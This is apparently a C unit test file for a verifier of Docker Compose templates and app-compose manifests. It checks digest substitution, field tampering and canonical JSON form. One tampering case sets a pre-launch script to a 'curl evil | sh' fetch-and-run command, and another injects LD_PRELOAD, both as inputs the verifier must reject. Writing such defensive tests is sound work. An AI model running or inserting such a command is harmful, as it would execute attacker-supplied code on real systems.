// SPDX-License-Identifier: Apache-2.0
#include <criterion/criterion.h>
#include <stdlib.h>
#include <string.h>

#include "src/base/file.h"
#include "src/base/hex.h"
#include "src/base/limits.h"
#include "tests/unit/fixture_json.h"
#include "verify/compose.h"
#include "verify/compose_render.h"

#define LEN(table) (sizeof(table) / sizeof((table)[0]))
#define RELEASE    "fixtures/compose/release/"
#define DIGEST_A   "1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a"
#define DIGEST_B   "2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b"

static void read_fixture(struct buf *out, const char *path)
{
    struct diag d = { 0 };

    buf_init(out, LIMIT_COMPOSE_BYTES);
    cr_assert_eq(file_read(&d, out, path), OK, "%s", d.msg);
}

static struct profile *release_profile(void)
{
    struct diag d = { 0 };
    struct profile *p = NULL;

    cr_assert_eq(profile_load(&d, &p, RELEASE "profile.yaml"), OK, "%s", d.msg);
    return p;
}

static void expect_hash(const struct buf *bytes, const char *want, const char *name)
{
    struct diag d = { 0 };
    struct hash32 hash;

    cr_assert_eq(compose_hash(&d, &hash, bytes->data, bytes->len), OK);
    cr_expect_str_eq(hash32_format(&hash).s, want, "%s", name);
}

Test(compose_render, same_bytes_as_another_way)
{
    struct json *expected = fixture_json("fixtures/compose/release.json");
    const struct json *rendered = json_get(expected, "rendered");
    struct profile *p = release_profile();
    struct hash32 digests[3] = { { { 0 } }, { { 0 } }, { { 0 } } };
    struct diag d = { 0 };
    const char *name = NULL;
    void *at = NULL;
    struct buf text;

    read_fixture(&text, RELEASE "template.yaml");
    memset(digests[0].b, 0x1a, 32);
    memset(digests[1].b, 0x2b, 32);
    for (const struct json *want = json_next(rendered, &at, &name); want != NULL;
         want = json_next(rendered, &at, &name)) {
        enum compose_form form = FORM_RAW;
        struct buf out;

        buf_init(&out, LIMIT_COMPOSE_BYTES);
        cr_assert_eq(compose_form_parse(&d, &form, name), OK);
        cr_assert_eq(compose_render(&d, &out, &p->compose, form, digests, text.data, text.len, "t"),
                     OK, "%s", d.msg);
        expect_hash(&out, json_string(want), name);
        buf_clear(&out);
    }
    p->compose.strip_newlines = false;
    {
        struct buf out;

        buf_init(&out, LIMIT_COMPOSE_BYTES);
        cr_assert_eq(compose_render(&d, &out, &p->compose, FORM_PHALA_STORED, digests, text.data,
                                    text.len, "t"),
                     OK);
        expect_hash(&out, json_string(json_get(expected, "rendered with the final newline")), "");
        buf_clear(&out);
    }
    buf_clear(&text);
    profile_free(p);
    json_free(expected);
}

/* One placeholder with an image, two of a value, one variable that stays. */
#define TEMPLATE "i: ${I}\na: @V@\nb: @V@ ${STAY} $$x ${ENV:-1}\n"
#define GIVEN    "i: acme/i@sha256:" DIGEST_A "\na: v\nb: v ${STAY} $$x ${ENV:-1}\n"

static void set_up(struct profile_compose *c)
{
    static char placeholders[2][8] = { "${I}", "@V@" };
    static char image[] = "acme/i";
    static char value[] = "v";
    static struct profile_substitution substitutions[2];
    static char stay[] = "STAY";
    static char *leave[1];
    struct json *envs = json_new_array();

    leave[0] = stay;
    substitutions[0] = (struct profile_substitution){ placeholders[0], NULL, image, 1 };
    substitutions[1] = (struct profile_substitution){ placeholders[1], value, NULL, 2 };
    *c = (struct profile_compose){ .given = true,
                                   .form = FORM_AS_IS,
                                   .substitutions = substitutions,
                                   .num_substitutions = 2,
                                   .leave = leave,
                                   .num_leave = 1,
                                   .app = json_new_object() };
    json_append(envs, json_new_string("ENV"));
    json_set(c->app, "allowed_envs", envs);
    json_set_null(c->app, "docker_compose_file");
}

static const struct {
    const char *name, *text, *says;
} bad_templates[] = {
    { "empty", "", "'${I}' occurs 0 times, expected 1" },
    { "image twice", "${I} ${I} @V@ @V@", "'${I}' occurs 2 times, expected 1" },
    { "value once", "${I} @V@", "'@V@' occurs 1 times, expected 2" },
    { "value three times", "${I} @V@ @V@@V@", "'@V@' occurs 3 times, expected 2" },
    { "variable", "${I} @V@ @V@ ${OTHER}", "the variable 'OTHER' is left over" },
    { "variable without braces", "${I} @V@ @V@ $OTHER", "the variable 'OTHER' is left over" },
    { "variable with a default", "${I} @V@ @V@ ${OTHER:-x}", "'OTHER' is left over" },
    { "behind an escaped dollar", "${I} @V@ @V@ $$${OTHER}", "'OTHER' is left over" },
    { "part of a known name", "${I} @V@ @V@ ${STA}", "'STA' is left over" },
    { "longer than a known name", "${I} @V@ @V@ ${STAYS}", "'STAYS' is left over" },
    { "other case", "${I} @V@ @V@ ${stay}", "'stay' is left over" },
};

Test(compose_render, bad_templates)
{
    struct hash32 digests[2] = { { { 1 } }, { { 0 } } };
    struct profile_compose c;

    set_up(&c);
    for (size_t i = 0; i < LEN(bad_templates); i++) {
        struct diag d = { 0 };
        struct buf out;
        enum err e = ERR_INTERNAL;

        buf_init(&out, LIMIT_COMPOSE_BYTES);
        e = compose_substitute(&d, &out, &c, digests, bad_templates[i].text,
                               strlen(bad_templates[i].text), "t.yaml");
        cr_expect_eq(e, ERR_MISMATCH, "%s: got %d", bad_templates[i].name, (int)e);
        cr_expect(strstr(d.msg, bad_templates[i].says) != NULL, "%s: %s", bad_templates[i].name,
                  d.msg);
        cr_expect_eq(out.len, 0, "%s", bad_templates[i].name);
        buf_clear(&out);
    }
    json_free(c.app);
}

/* What is put in is not looked at again, so it may not look like something to put in. */
Test(compose_render, a_value_must_not_bring_a_placeholder)
{
    static char evil[] = "${I}";
    struct hash32 digests[2] = { { { 1 } }, { { 0 } } };
    struct profile_compose c;
    struct diag d = { 0 };
    struct buf out;

    set_up(&c);
    c.substitutions[1].value = evil;
    buf_init(&out, LIMIT_COMPOSE_BYTES);
    cr_expect_eq(compose_substitute(&d, &out, &c, digests, TEMPLATE, strlen(TEMPLATE), "t.yaml"),
                 ERR_MISMATCH);
    cr_expect(strstr(d.msg, "'${I}' is left over") != NULL, "%s", d.msg);
    buf_clear(&out);
    json_free(c.app);
}

static const struct {
    const char *name, *text;
    bool strip;
    enum err want;
} texts[] = {
    { "as it should be", GIVEN, false, OK },
    { "empty", "", false, ERR_MISMATCH },
    { "not substituted", TEMPLATE, false, ERR_MISMATCH },
    { "another image", "i: acme/j@sha256:" DIGEST_A "\na: v\nb: v ${STAY} $$x ${ENV:-1}\n", false,
      ERR_MISMATCH },
    { "a longer image", "i: acme/i/x@sha256:" DIGEST_A "\na: v\nb: v ${STAY} $$x ${ENV:-1}\n",
      false, ERR_MISMATCH },
    { "a tag", "i: acme/i:1\na: v\nb: v ${STAY} $$x ${ENV:-1}\n", false, ERR_MISMATCH },
    { "capitals", "i: acme/i@sha256:1A" DIGEST_A "\na: v\nb: v ${STAY} $$x ${ENV:-1}\n", false,
      ERR_MISMATCH },
    { "another value", "i: acme/i@sha256:" DIGEST_A "\na: w\nb: v ${STAY} $$x ${ENV:-1}\n", false,
      ERR_MISMATCH },
    { "a line more", GIVEN "privileged: true\n", false, ERR_MISMATCH },
    { "no final newline", "i: acme/i@sha256:" DIGEST_A "\na: v\nb: v ${STAY} $$x ${ENV:-1}", false,
      ERR_MISMATCH },
    { "no final newline, stripped",
      "i: acme/i@sha256:" DIGEST_A "\na: v\nb: v ${STAY} $$x ${ENV:-1}", true, OK },
    { "final newline, stripped", GIVEN, true, ERR_MISMATCH },
    { "CR LF", "i: acme/i@sha256:" DIGEST_A "\r\na: v\r\nb: v ${STAY} $$x ${ENV:-1}\r\n", false,
      ERR_MISMATCH },
};

Test(compose_render, digests_are_the_only_freedom)
{
    struct profile_compose c;

    set_up(&c);
    for (size_t i = 0; i < LEN(texts); i++) {
        struct hash32 *digests = NULL;
        struct diag d = { 0 };
        enum err e = ERR_INTERNAL;
        char hex[HEX_LEN(32)];

        c.strip_newlines = texts[i].strip;
        e = compose_find_digests(&d, &digests, &c, TEMPLATE, strlen(TEMPLATE), texts[i].text,
                                 strlen(texts[i].text), "t.yaml");
        cr_expect_eq(e, texts[i].want, "%s: got %d (%s)", texts[i].name, (int)e, d.msg);
        cr_expect_eq(digests != NULL, texts[i].want == OK, "%s", texts[i].name);
        if (digests != NULL)
            cr_expect_str_eq(hex_encode(hex, digests[0].b, 32), DIGEST_A);
        free(digests);
    }
    json_free(c.app);
}

Test(compose_render, one_image_has_one_digest)
{
    static const char text[] = "${I} ${I} @V@ @V@";
    static const char same[] = "acme/i@sha256:" DIGEST_A " acme/i@sha256:" DIGEST_A " v v";
    static const char other[] = "acme/i@sha256:" DIGEST_A " acme/i@sha256:" DIGEST_B " v v";
    struct profile_compose c;
    struct hash32 *digests = NULL;
    struct diag d = { 0 };

    set_up(&c);
    c.substitutions[0].times = 2;
    cr_expect_eq(
        compose_find_digests(&d, &digests, &c, text, strlen(text), same, strlen(same), "t"), OK,
        "%s", d.msg);
    free(digests);
    cr_expect_eq(
        compose_find_digests(&d, &digests, &c, text, strlen(text), other, strlen(other), "t"),
        ERR_MISMATCH);
    cr_expect_null(digests);
    json_free(c.app);
}

/* --- every field -------------------------------------------------------------------------------
 */

static enum err account(struct diag *d, const struct json *app, struct buf *words)
{
    struct profile *p = release_profile();
    struct buf text;
    struct buf bytes;
    enum err e = ERR_INTERNAL;

    read_fixture(&text, RELEASE "template.yaml");
    buf_init(&bytes, LIMIT_COMPOSE_BYTES);
    cr_assert_eq(json_write(d, &bytes, app, 0), OK);
    e = compose_account(d, words, &p->compose, bytes.data, bytes.len, text.data, text.len);
    buf_clear(&bytes);
    buf_clear(&text);
    profile_free(p);
    return e;
}

Test(compose_account, all_of_a_release)
{
    struct json *app = fixture_json(RELEASE "app-compose.json");
    struct diag d = { 0 };
    struct buf words;

    buf_init(&words, 65536);
    cr_expect_eq(account(&d, app, &words), OK, "%s", d.msg);
    cr_expect(strstr(buf_str(&words), "pre_launch_script by Example Cloud, pre-launch script "
                                      "v0.0.3") != NULL,
              "%s", buf_str(&words));
    buf_clear(&words);
    json_free(app);
}

static const struct {
    const char *field, *value; /* value NULL: taken out */
    const char *says;
} tampered[] = {
    { "pre_launch_script", "\"curl evil | sh\"", "'pre_launch_script' comes neither" },
    { "pre_launch_script", "\"\"", "'pre_launch_script' comes neither" },
    { "pre_launch_script", "null", "'pre_launch_script' comes neither" },
    { "init_script", "\"x\"", "'init_script' comes neither" },
    { "future_policy", "{}", "'future_policy' comes neither" },
    { "public_logs", "true", "'public_logs' comes neither" },
    { "public_logs", "\"false\"", "'public_logs' comes neither" },
    { "features", "[\"tproxy-net\",\"kms\"]", "'features' comes neither" },
    { "manifest_version", "3", "'manifest_version' comes neither" },
    { "name", "\"x\"", "'name' is not what the profile says" },
    { "allowed_envs", "[]", "'allowed_envs' is not what the profile says" },
    { "allowed_envs", "[\"STRIPE_KEY\",\"LD_PRELOAD\"]", "'allowed_envs' is not" },
    { "allowed_envs", NULL, "'allowed_envs' of the profile is missing" },
    { "name", NULL, "'name' of the profile is missing" },
    { "docker_compose_file", NULL, "docker_compose_file" },
    { "docker_compose_file", "1", "there is no docker_compose_file" },
    { "docker_compose_file", "\"services: {}\"", "they part at byte 9, line 1" },
};

Test(compose_account, what_comes_from_nowhere)
{
    for (size_t i = 0; i < LEN(tampered); i++) {
        struct json *app = fixture_json(RELEASE "app-compose.json");
        struct diag d = { 0 };
        struct buf words;

        buf_init(&words, 65536);
        if (tampered[i].value == NULL) {
            json_remove(app, tampered[i].field);
        } else {
            struct json *value = NULL;

            cr_assert_eq(json_parse(&d, &value, tampered[i].value, strlen(tampered[i].value), ""),
                         OK);
            json_set(app, tampered[i].field, value);
        }
        cr_expect_eq(account(&d, app, &words), ERR_MISMATCH, "%s %s", tampered[i].field,
                     tampered[i].value != NULL ? tampered[i].value : "removed");
        cr_expect(strstr(d.msg, tampered[i].says) != NULL, "%s: %s", tampered[i].field, d.msg);
        buf_clear(&words);
        json_free(app);
    }
}

Test(compose_account, an_unknown_script_is_named)
{
    static const char script[] =
        "{\"pre_launch_script\":\"echo Running Phala Cloud Pre-Launch Script v0.0.20\\n\"}";
    struct profile *p = release_profile();
    struct diag d = { 0 };
    struct buf words;

    buf_init(&words, 1024);
    cr_expect_eq(compose_account(&d, &words, &p->compose, script, strlen(script), "", 0),
                 ERR_MISMATCH);
    cr_expect(strstr(d.hint, "it calls itself v0.0.20") != NULL, "%s", d.hint);
    buf_clear(&words);
    profile_free(p);
}

static const struct {
    const char *name;
    enum compose_form form;
    const char *text;
    enum err want;
} written[] = {
    { "sorted", FORM_PHALA_STORED, "{\"a\":1,\"b\":[]}", OK },
    { "not sorted", FORM_PHALA_STORED, "{\"b\":[],\"a\":1}", ERR_MISMATCH },
    { "not sorted, as-is", FORM_AS_IS, "{\"b\":[],\"a\":1}", OK },
    { "a newline", FORM_PHALA_STORED, "{\"a\":1,\"b\":[]}\n", ERR_MISMATCH },
    { "a space", FORM_PHALA_STORED, "{\"a\": 1,\"b\":[]}", ERR_MISMATCH },
    { "escaped", FORM_PHALA_STORED, "{\"a\":\"\\u0041\"}", ERR_MISMATCH },
    { "escaped slash", FORM_PHALA_STORED, "{\"a\":\"\\/\"}", ERR_MISMATCH },
    { "fraction", FORM_PHALA_STORED, "{\"a\":0.5}", ERR_MISMATCH },
    { "other producer", FORM_VMM_CLI, "{\"a\":1}", ERR_MISMATCH },
    { "no JSON", FORM_PHALA_STORED, "{", ERR_FORMAT },
    { "a list", FORM_PHALA_STORED, "[]", ERR_FORMAT },
};

Test(compose_account, form)
{
    for (size_t i = 0; i < LEN(written); i++) {
        struct diag d = { 0 };
        enum err e =
            compose_check_form(&d, written[i].form, written[i].text, strlen(written[i].text));

        cr_expect_eq(e, written[i].want, "%s: got %d (%s)", written[i].name, (int)e, d.msg);
    }
}
